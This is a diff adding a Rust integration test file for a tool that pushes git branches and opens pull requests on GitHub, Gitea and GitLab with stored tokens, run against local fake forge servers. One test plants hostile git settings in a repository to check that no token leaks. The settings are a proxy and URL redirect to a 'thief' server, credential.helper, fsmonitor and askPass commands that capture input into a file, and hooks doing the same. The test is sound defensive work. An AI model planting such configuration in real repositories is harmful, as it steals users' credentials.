@@ -1,0 +1,377 @@
+//! Pushes and pull requests, against real git over HTTP and the three languages of forges.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::sync::{Arc, Mutex};
+
+use axum::Router;
+use axum::body::{Body, Bytes};
+use axum::http::{HeaderMap, Method as HttpMethod, Response, Uri};
+use base64::Engine as _;
+use reqwest::Method;
+use serde_json::{Value, json};
+use tempfile::TempDir;
+use tokio::io::AsyncWriteExt as _;
+use tokio::net::TcpListener;
+use tokio::process::Command;
+use tokio_util::task::AbortOnDropHandle;
+
+use crate::desk::{Desk, FINISH, Talk};
+
+const TOKEN: &str = "tok-SECRET-0123456789";
+
+/// A forge with one repository, `ann/project`.
+struct ForgeServer {
+    host: String,
+    root: TempDir,
+    /// Method, path, how it was shown who asks, and the body.
+    asked: Arc<Mutex<Vec<(String, String, String)>>>,
+    _task: AbortOnDropHandle<()>,
+}
+
+impl ForgeServer {
+    async fn new() -> Self {
+        let root = tempfile::tempdir().unwrap();
+        git(root.path(), &["init", "-q", "--bare", "ann/project.git"]).await;
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let host = listener.local_addr().unwrap().to_string();
+        let asked: Arc<Mutex<Vec<_>>> = Arc::default();
+        let (place, noted) = (root.path().to_owned(), Arc::clone(&asked));
+        let answer = move |method: HttpMethod, uri: Uri, headers: HeaderMap, body: Bytes| async move {
+            let shown = |name: &str| {
+                headers
+                    .get(name)
+                    .and_then(|value| value.to_str().ok())
+                    .unwrap_or_default()
+            };
+            let who = format!("{}{}", shown("authorization"), shown("private-token"));
+            let path = uri.path().to_owned();
+            noted.lock().unwrap().push((
+                format!("{method} {uri}"),
+                who.clone(),
+                String::from_utf8_lossy(&body).into_owned(),
+            ));
+            if path.starts_with("/api/") {
+                return api(&method, &path, &who);
+            }
+            if who.is_empty() {
+                let asking = Response::builder()
+                    .status(401)
+                    .header("WWW-Authenticate", "Basic realm=\"forge\"");
+                return asking.body(Body::empty()).unwrap();
+            }
+            let given = who.strip_prefix("Basic ").unwrap_or_default();
+            let given = base64::engine::general_purpose::STANDARD
+                .decode(given)
+                .unwrap_or_default();
+            if !given.ends_with(format!(":{TOKEN}").as_bytes()) {
+                return Response::builder().status(403).body(Body::empty()).unwrap();
+            }
+            backend(&place, &method, &uri, &headers, &body).await
+        };
+        let task = tokio::spawn(async move {
+            axum::serve(listener, Router::new().fallback(answer))
+                .await
+                .unwrap();
+        });
+        Self {
+            host,
+            root,
+            asked,
+            _task: AbortOnDropHandle::new(task),
+        }
+    }
+
+    /// The commit that a branch of the repository stands at.
+    async fn branch(&self, name: &str) -> String {
+        git(&self.root.path().join("ann/project.git"), &["rev-parse", name]).await
+    }
+
+    fn asked(&self, start: &str) -> Vec<(String, String, String)> {
+        let asked = self.asked.lock().unwrap();
+        asked
+            .iter()
+            .filter(|(what, ..)| what.starts_with(start))
+            .cloned()
+            .collect()
+    }
+}
+
+/// What a forge answers to questions about repositories.
+fn api(method: &HttpMethod, path: &str, who: &str) -> Response<Body> {
+    let is_known = who.contains(TOKEN);
+    let (status, body) = match (is_known, method.as_str()) {
+        (false, _) => (401, json!({"message": "Bad credentials"})),
+        (true, "GET") => (200, json!({"default_branch": "main"})),
+        (true, _) if path.ends_with("/merge_requests") => {
+            (201, json!({"web_url": "https://forge.example/mr/1"}))
+        }
+        (true, _) => (201, json!({"html_url": "https://forge.example/pulls/1"})),
+    };
+    let answer = Response::builder()
+        .status(status)
+        .header("Content-Type", "application/json");
+    answer.body(Body::from(body.to_string())).unwrap()
+}
+
+/// Git's own server.
+async fn backend(
+    root: &Path,
+    method: &HttpMethod,
+    uri: &Uri,
+    headers: &HeaderMap,
+    body: &[u8],
+) -> Response<Body> {
+    let header = |name: &str| {
+        headers
+            .get(name)
+            .and_then(|value| value.to_str().ok())
+            .unwrap_or_default()
+    };
+    let mut child = Command::new("git")
+        .arg("http-backend")
+        .env("GIT_PROJECT_ROOT", root)
+        .env("GIT_HTTP_EXPORT_ALL", "1")
+        .env("REMOTE_USER", "ann")
+        .env("REQUEST_METHOD", method.as_str())
+        .env("PATH_INFO", uri.path())
+        .env("QUERY_STRING", uri.query().unwrap_or_default())
+        .env("CONTENT_TYPE", header("content-type"))
+        .env("HTTP_CONTENT_ENCODING", header("content-encoding"))
+        .env("GIT_PROTOCOL", header("git-protocol"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let written = body.to_vec();
+    let writing = tokio::spawn(async move {
+        let _ = stdin.write_all(&written).await;
+    });
+    let output = child.wait_with_output().await.unwrap().stdout;
+    writing.await.unwrap();
+    let end = output.windows(4).position(|part| part == b"\r\n\r\n").unwrap();
+    let head = String::from_utf8_lossy(&output[..end]).into_owned();
+    let head: BTreeMap<_, _> = head.lines().filter_map(|line| line.split_once(": ")).collect();
+    let status = head
+        .get("Status")
+        .and_then(|status| status.get(..3))
+        .unwrap_or("200");
+    let answer = Response::builder()
+        .status(status)
+        .header("Content-Type", head["Content-Type"]);
+    answer.body(Body::from(output[end + 4..].to_vec())).unwrap()
+}
+
+async fn git(directory: &Path, arguments: &[&str]) -> String {
+    let run = Command::new("git")
+        .args([
+            "-c",
+            "user.name=a",
+            "-c",
+            "user.email=a@b",
+            "-c",
+            "init.defaultBranch=main",
+        ])
+        .args(arguments)
+        .current_dir(directory)
+        .output();
+    let output = run.await.unwrap();
+    assert!(
+        output.status.success(),
+        "git {arguments:?}: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stdout).unwrap().trim().to_owned()
+}
+
+/// A conversation whose workspace has a repository with a branch of its own, and its directory.
+async fn repository(desk: &Desk, origin: &str) -> (Talk, PathBuf) {
+    let talk = desk.begin(FINISH).await;
+    desk.run(&talk).await;
+    let work = desk.work();
+    git(&work, &["init", "-q", "."]).await;
+    git(&work, &["checkout", "-q", "-b", "feature"]).await;
+    std::fs::write(work.join("a.txt"), "a").unwrap();
+    git(&work, &["add", "-A"]).await;
+    git(&work, &["commit", "-qm", "first"]).await;
+    git(&work, &["remote", "add", "origin", origin]).await;
+    (talk, work)
+}
+
+async fn add_account(desk: &Desk, host: &str, kind: &str, token: &str) -> Value {
+    let account = json!({"address": format!("http://{host}"), "kind": kind, "token": token});
+    let (status, answer) = desk
+        .ask(Method::PUT, "/api/settings/git_accounts", Some(account))
+        .await;
+    assert_eq!(status, 200, "{answer}");
+    answer
+}
+
+fn to(work: &Path, host: &str) -> Value {
+    json!({"path": work, "host": host, "repository": "ann/project", "title": "My work", "text": "What it does."})
+}
+
+#[tokio::test]
+async fn a_branch_is_pushed_with_a_token_that_stands_nowhere() {
+    let desk = Desk::new().await;
+    let forge = ForgeServer::new().await;
+    let (talk, work) = repository(&desk, &format!("http://{}/ann/project.git", forge.host)).await;
+    let path = talk.path(&format!("/git/remote?path={}", work.display()));
+    let seen = desk.get(&path).await;
+    assert_eq!(
+        seen,
+        json!({"branch": "feature", "host": forge.host, "repository": "ann/project", "kind": null})
+    );
+    let push = talk.path("/git/push");
+    let refused = desk.refusal(Method::POST, &push, to(&work, &forge.host)).await;
+    assert!(
+        refused.1.as_str().unwrap().contains("add one in the settings"),
+        "{refused:?}"
+    );
+    let listed = add_account(&desk, &forge.host, "gitea", TOKEN).await;
+    assert!(!listed.to_string().contains(TOKEN) && listed["accounts"][0]["kind"] == "gitea");
+    assert_eq!(desk.get(&path).await["kind"], "gitea");
+
+    let pushed = desk.post(&push, to(&work, &forge.host)).await;
+    let head = git(&work, &["rev-parse", "HEAD"]).await;
+    assert_eq!(pushed, json!({"branch": "feature", "commit": head}));
+    assert_eq!(forge.branch("feature").await, head);
+    assert_eq!(
+        git(&work, &["rev-parse", "refs/remotes/origin/feature"]).await,
+        head
+    );
+    let config = std::fs::read_to_string(work.join(".git/config")).unwrap();
+    let commands = desk.get(&talk.path("/bash/bash_events/search")).await;
+    let events = json!(desk.events(&talk).await);
+    for told in [config, commands.to_string(), events.to_string()] {
+        assert!(!told.contains(TOKEN), "{told}");
+    }
+    assert!(
+        forge.asked("").iter().all(|(what, ..)| !what.contains(TOKEN)),
+        "not in an address"
+    );
+
+    add_account(&desk, &forge.host, "gitea", "tok-WRONG").await;
+    std::fs::write(work.join("a.txt"), "b").unwrap();
+    git(&work, &["commit", "-qam", "second"]).await;
+    let (status, sentence) = desk.refusal(Method::POST, &push, to(&work, &forge.host)).await;
+    let sentence = sentence.as_str().unwrap();
+    assert!(
+        status == 502 && sentence.contains("did not take the branch"),
+        "{sentence}"
+    );
+    assert!(!sentence.contains("tok-WRONG"));
+    assert_eq!(forge.branch("feature").await, head, "nothing was pushed");
+}
+
+#[tokio::test]
+async fn what_a_repository_is_configured_to_do_does_not_get_the_token() {
+    let desk = Desk::new().await;
+    let [forge, thief] = [ForgeServer::new().await, ForgeServer::new().await];
+    let own = format!("http://{}/ann/project.git", forge.host);
+    let (talk, work) = repository(&desk, &own).await;
+    add_account(&desk, &forge.host, "gitea", TOKEN).await;
+    let stolen = work.join("stolen");
+    let steal = format!("tee -a {}", stolen.display());
+    let elsewhere = format!("url.http://{}/.insteadOf", thief.host);
+    let own_root = format!("http://{}/", forge.host);
+    for (name, value) in [
+        (elsewhere.as_str(), own_root.as_str()),
+        ("http.proxy", &format!("http://{}", thief.host)),
+        ("credential.helper", &format!("!{steal}")),
+        ("core.hooksPath", "hooks"),
+        ("core.fsmonitor", &steal),
+        ("core.askPass", &steal),
+        ("http.extraHeader", "X-Stolen: 1"),
+    ] {
+        git(&work, &["config", "--add", name, value]).await;
+    }
+    std::fs::create_dir(work.join("hooks")).unwrap();
+    for hook in ["pre-push", "reference-transaction"] {
+        use std::os::unix::fs::PermissionsExt as _;
+        let file = work.join("hooks").join(hook);
+        std::fs::write(&file, format!("#!/bin/sh\n{steal} <&3\n")).unwrap();
+        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    desk.post(&talk.path("/git/push"), to(&work, &forge.host)).await;
+    assert!(!forge.branch("feature").await.is_empty());
+    assert!(thief.asked("").is_empty(), "nobody else was asked");
+    assert!(!stolen.exists(), "nothing of the repository's was run");
+
+    // A remote that is another one by now than the person saw.
+    git(
+        &work,
+        &[
+            "remote",
+            "set-url",
+            "origin",
+            &format!("http://{}/ann/project.git", thief.host),
+        ],
+    )
+    .await;
+    let (status, _) = desk
+        .refusal(Method::POST, &talk.path("/git/push"), to(&work, &forge.host))
+        .await;
+    assert_eq!(status, 409);
+}
+
+#[tokio::test]
+async fn a_pull_request_is_opened_in_the_language_of_each_forge() {
+    let desk = Desk::new().await;
+    let forge = ForgeServer::new().await;
+    let (talk, work) = repository(&desk, &format!("http://{}/ann/project", forge.host)).await;
+    let request = talk.path("/git/pull_request");
+    let github = json!({"title": "My work", "body": "What it does.", "head": "feature", "base": "main"});
+    let gitlab = json!({"title": "My work", "description": "What it does.", "source_branch": "feature",
+        "target_branch": "main"});
+    for (kind, place, who, body, page) in [
+        (
+            "github",
+            "/api/v3/repos/ann/project/pulls",
+            format!("Bearer {TOKEN}"),
+            &github,
+            "https://forge.example/pulls/1",
+        ),
+        (
+            "gitea",
+            "/api/v1/repos/ann/project/pulls",
+            format!("token {TOKEN}"),
+            &github,
+            "https://forge.example/pulls/1",
+        ),
+        (
+            "gitlab",
+            "/api/v4/projects/ann%2Fproject/merge_requests",
+            TOKEN.to_owned(),
+            &gitlab,
+            "https://forge.example/mr/1",
+        ),
+    ] {
+        add_account(&desk, &forge.host, kind, TOKEN).await;
+        let opened = desk.post(&request, to(&work, &forge.host)).await;
+        assert_eq!(opened, json!({ "url": page }));
+        let asked = forge.asked(&format!("POST {place}"));
+        let [(_, shown, sent)] = &asked[..] else {
+            panic!("{kind}: {:?}", forge.asked(""));
+        };
+        assert_eq!(*shown, who);
+        assert_eq!(serde_json::from_str::<Value>(sent).unwrap(), *body, "{kind}");
+    }
+    add_account(&desk, &forge.host, "github", "tok-WRONG").await;
+    let (status, sentence) = desk.refusal(Method::POST, &request, to(&work, &forge.host)).await;
+    assert!(status == 502 && sentence.as_str().unwrap().contains("does not accept the token"));
+    let (status, _) = desk
+        .ask(
+            Method::DELETE,
+            &format!("/api/settings/git_accounts/{}", forge.host),
+            None,
+        )
+        .await;
+    assert_eq!(status, 200);
+    assert_eq!(
+        desk.get("/api/settings/git_accounts").await,
+        json!({"accounts": []})
+    );
+}
